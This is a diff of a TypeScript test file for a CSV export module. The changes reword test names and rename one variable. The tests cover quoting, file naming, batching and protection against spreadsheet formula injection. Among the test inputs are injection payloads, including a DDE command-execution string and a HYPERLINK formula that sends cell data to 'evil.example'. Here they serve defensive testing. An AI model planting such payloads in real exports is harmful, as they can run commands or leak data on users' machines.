@@ -4,13 +4,13 @@ import { describe, expect, test } from 'vitest';
 import { batchesOf, csvName, csvText, neutralised, plainOf } from './csv.ts';
 import type { Cell } from './csv.ts';
 
-/** The whole text of a table whose rows come in these batches. */
+/** The whole text of a table with rows in these batches. */
 async function textOf(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
   const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
   return (await Readable.from(csvText(table)).toArray()).join('');
 }
 
-test('a table is UTF-8 with a BOM, each line ends with CRLF, texts stand in quotes', async () => {
+test('a table is UTF-8 with a BOM, each line ends with CRLF, and texts are quoted', async () => {
   const text = await textOf(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
   expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
 });
@@ -19,11 +19,11 @@ test('a table without rows has its header', async () => {
   expect(await textOf(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
 });
 
-test('a table is named by its day in UTC', () => {
+test('a table’s file name contains its day in UTC', () => {
   expect(csvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
 });
 
-describe('a text that a spreadsheet would calculate', () => {
+describe('a text that a spreadsheet would evaluate as a formula', () => {
   test.each([
     '=1+1',
     '+33 1 42 68 53 00',
@@ -49,7 +49,7 @@ describe('a text that a spreadsheet would calculate', () => {
     '“=1',
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
-  ])('%j is neutralised, and comes back as it was', (text) => {
+  ])('%j is neutralised, and an import restores it', (text) => {
     expect(neutralised(text)).toBe(`'${text}`);
     expect(plainOf(neutralised(text))).toBe(text);
   });
@@ -62,7 +62,7 @@ describe('a text that a spreadsheet would calculate', () => {
     },
   );
 
-  test('any text at all comes back as it was, and none goes out with a sign in front', () => {
+  test('any text survives export and import, and none is exported with a formula sign in front', () => {
     const piece = fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ' ', '\t', '\r', '\n', '\u200B', 'a', '1', 'é');
     const text = fc.oneof(fc.string({ unit: piece, maxLength: 6 }), fc.string({ unit: 'binary' }));
     fc.assert(
@@ -75,10 +75,10 @@ describe('a text that a spreadsheet would calculate', () => {
   });
 });
 
-test('all rows of a list come in batches, each read behind the last one', async () => {
-  const asked: (number | null)[] = [];
+test('all rows of a list come in batches, each after the last row of the one before', async () => {
+  const starts: (number | null)[] = [];
   const next = async (behind: number | null, most: number): Promise<number[]> => {
-    asked.push(behind);
+    starts.push(behind);
     return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
   };
   expect(await Readable.from(batchesOf(next, 4)).toArray()).toEqual([
@@ -89,5 +89,5 @@ test('all rows of a list come in batches, each read behind the last one', async 
     [1, 2, 3],
     [4, 5, 6],
   ]);
-  expect(asked).toEqual([null, 4, null, 3, 6]);
+  expect(starts).toEqual([null, 4, null, 3, 6]);
 });
